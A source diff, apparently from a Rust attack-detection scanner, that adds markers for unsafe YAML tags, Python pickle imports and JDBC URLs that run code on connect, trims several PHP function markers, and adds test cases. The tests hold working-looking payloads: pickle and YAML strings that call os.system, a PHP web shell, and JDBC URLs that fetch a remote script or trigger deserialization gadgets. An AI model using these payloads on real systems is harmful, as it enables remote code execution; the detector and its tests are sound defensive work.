@@ -11,6 +11,13 @@ pub(crate) enum Kind {
     Call,
     /// A marker that is code wherever it starts a token.
     Token,
+    /// A pickle `GLOBAL` opcode's module line (`cos\n`): code when the next line names a
+    /// callable (`system\n`), what `pickle.loads` imports and then calls.
+    PickleGlobal,
+    /// A JDBC URL's driver prefix: code when the URL sets a property that runs code or reads
+    /// files on connect (H2 `INIT=RUNSCRIPT`, MySQL `autoDeserialize`, PostgreSQL
+    /// `socketFactory`).
+    Jdbc,
 }
 
 /// `(marker, rule, kind)`; the automaton is built from the markers.
@@ -77,45 +84,16 @@ pub(crate) const ENTRIES: &[(&str, &str, Kind)] = &[
     ("substr", "code.php", Kind::Call),
     ("strrev", "code.php", Kind::Call),
     ("getenv", "code.php", Kind::Call),
-    ("file_put_contents", "code.php", Kind::Call),
-    ("fopen", "code.php", Kind::Call),
-    ("readfile", "code.php", Kind::Call),
     ("include", "code.php", Kind::Call),
     ("include_once", "code.php", Kind::Token),
     ("require_once", "code.php", Kind::Token),
-    ("preg_replace", "code.php", Kind::Call),
-    ("call_user_func", "code.php", Kind::Call),
-    ("create_function", "code.php", Kind::Call),
-    ("phpinfo", "code.php", Kind::Call),
-    ("highlight_file", "code.php", Kind::Call),
-    ("show_source", "code.php", Kind::Call),
-    ("unserialize", "code.php", Kind::Call),
-    ("call_user_func_array", "code.php", Kind::Call),
-    ("gzdecode", "code.php", Kind::Call),
-    ("gzuncompress", "code.php", Kind::Call),
     ("get_defined_functions", "code.php", Kind::Call),
-    ("get_defined_vars", "code.php", Kind::Call),
     ("curl_init", "code.php", Kind::Call),
     ("curl_exec", "code.php", Kind::Call),
-    ("print_r", "code.php", Kind::Call),
     ("var_dump", "code.php", Kind::Call),
     ("var_export", "code.php", Kind::Call),
-    ("assert_options", "code.php", Kind::Call),
-    ("ini_set", "code.php", Kind::Call),
-    ("ini_get_all", "code.php", Kind::Call),
-    ("putenv", "code.php", Kind::Call),
-    ("fsockopen", "code.php", Kind::Call),
-    ("pfsockopen", "code.php", Kind::Call),
-    ("stream_socket_client", "code.php", Kind::Call),
-    ("move_uploaded_file", "code.php", Kind::Call),
     ("preg_replace_callback", "code.php", Kind::Call),
-    ("register_shutdown_function", "code.php", Kind::Call),
-    ("hex2bin", "code.php", Kind::Call),
-    ("convert_uudecode", "code.php", Kind::Call),
     ("fputcsv", "code.php", Kind::Call),
-    ("fwrite", "code.php", Kind::Call),
-    ("posix_getpwuid", "code.php", Kind::Call),
-    ("posix_kill", "code.php", Kind::Call),
     ("escapeshellcmd", "code.php", Kind::Call),
     ("$_get", "code.php", Kind::Token),
     ("$_post", "code.php", Kind::Token),
@@ -204,7 +182,6 @@ pub(crate) const ENTRIES: &[(&str, &str, Kind)] = &[
     ("cs7qaf", "code.deserialization", Kind::Token),
     // Gadget classes of the Commons Collections / JDK deserialization chains (ysoserial):
     // named in a request only by a serialized object or its description.
-    ("invokertransformer", "code.deserialization", Kind::Token),
     (
         "instantiatetransformer",
         "code.deserialization",
@@ -244,7 +221,58 @@ pub(crate) const ENTRIES: &[(&str, &str, Kind)] = &[
     ("org.apache.struts", "code.java", Kind::Token),
     ("groovy.lang.", "code.java", Kind::Token),
     ("bsh.interpreter", "code.java", Kind::Token),
+    // Unsafe YAML loaders build the object a tag names (PyYAML `load`, Ruby Psych, js-yaml's
+    // `!!js/function`), SnakeYAML's Java classes above.
+    ("!!python/", "code.deserialization", Kind::Token),
+    (
+        "tag:yaml.org,2002:python/",
+        "code.deserialization",
+        Kind::Token,
+    ),
+    ("!ruby/", "code.deserialization", Kind::Token),
+    ("!!js/function", "code.deserialization", Kind::Token),
+    // Pickle protocol 0: `c<module>\n<name>\n` imports a callable.
+    ("cos\n", "code.deserialization", Kind::PickleGlobal),
+    ("cposix\n", "code.deserialization", Kind::PickleGlobal),
+    ("cnt\n", "code.deserialization", Kind::PickleGlobal),
+    ("csubprocess\n", "code.deserialization", Kind::PickleGlobal),
+    ("cbuiltins\n", "code.deserialization", Kind::PickleGlobal),
+    ("c__builtin__\n", "code.deserialization", Kind::PickleGlobal),
+    ("ccommands\n", "code.deserialization", Kind::PickleGlobal),
+    ("cpty\n", "code.deserialization", Kind::PickleGlobal),
+    ("csocket\n", "code.deserialization", Kind::PickleGlobal),
+    ("jdbc:h2:", "code.jdbc", Kind::Jdbc),
+    ("jdbc:mysql:", "code.jdbc", Kind::Jdbc),
+    ("jdbc:mariadb:", "code.jdbc", Kind::Jdbc),
+    ("jdbc:postgresql:", "code.jdbc", Kind::Jdbc),
+    ("jdbc:db2:", "code.jdbc", Kind::Jdbc),
 ];
+
+/// JDBC URL properties that make the driver run code or read or write files on connect.
+const JDBC_PROPERTIES: &[&[u8]] = &[
+    b"init=",
+    b"autodeserialize=true",
+    b"queryinterceptors=",
+    b"statementinterceptors=",
+    b"exceptioninterceptors=",
+    b"allowloadlocalinfile=true",
+    b"allowurlinlocalinfile=true",
+    b"socketfactory=",
+    b"sslfactory=",
+    b"sslhostnameverifier=",
+    b"loggerfile=",
+    b"authenticationpluginclassname=",
+    b"clientrerouteserverlistjndiname=",
+];
+
+/// After a pickle `GLOBAL` module line ending at `en`: the name line of a callable.
+fn pickle_name(b: &[u8], en: usize) -> Option<usize> {
+    let len = b[en..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
+        .count();
+    (len > 0 && b.get(en + len) == Some(&b'\n')).then_some(en + len + 1)
+}
 
 /// Extensions a web server runs as code rather than serving (`.php5`, `.phtml`, `.jspx`, …):
 /// the name of an uploaded file must not end with one.
@@ -340,6 +368,21 @@ fn entry(b: &[u8], t: &Tables) -> Option<Hit> {
             continue;
         }
         match kind {
+            Kind::PickleGlobal => {
+                if let Some(e) = pickle_name(b, en) {
+                    return Some(Hit::new(rule, st, e));
+                }
+            }
+            Kind::Jdbc => {
+                let url = &b[en..];
+                let url = &url[..url
+                    .iter()
+                    .position(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\''))
+                    .unwrap_or(url.len())];
+                if JDBC_PROPERTIES.iter().any(|p| find(url, p).is_some()) {
+                    return Some(Hit::new(rule, st, en + url.len()));
+                }
+            }
             Kind::Token => {
                 // Serialized-object magic must start the value (or a base64/hex run).
                 if rule == "code.deserialization"
@@ -893,6 +936,14 @@ mod tests {
     fn attacks() {
         for (a, r) in [
             ("<?php system($_GET['c']); ?>", "code.php"),
+            // Unsafe YAML tags, pickle imports, JDBC URLs that run code on connect.
+            ("!!python/object/apply:os.system [\"id\"]", "code.deserialization"),
+            ("x: !ruby/object:Gem::Installer\n  i: x", "code.deserialization"),
+            ("cos\nsystem\n(S'id'\ntR.", "code.deserialization"),
+            ("c__builtin__\neval\n(Vprint(1)\ntR.", "code.deserialization"),
+            ("jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x/a.sql'", "code.jdbc"),
+            ("jdbc:mysql://x:3306/db?autoDeserialize=true&queryInterceptors=x", "code.jdbc"),
+            ("jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext", "code.jdbc"),
             ("system('uname -a');", "code.php"),
             ("(string)\"system\"('uname');", "code.php"),
             ("eval(base64_decode('ZWNobyAx'))", "code.python"),
@@ -943,6 +994,10 @@ mod tests {
     #[test]
     fn prose_passes() {
         for b in [
+            "sin and cos\nare periodic",
+            "cos\n",
+            "jdbc:mysql://db.example.com:3306/shop?useSSL=true&serverTimezone=UTC",
+            "The ruby/object model",
             "The system (as designed) works",
             "We require (at least) two",
             "Include the file in your evaluation",
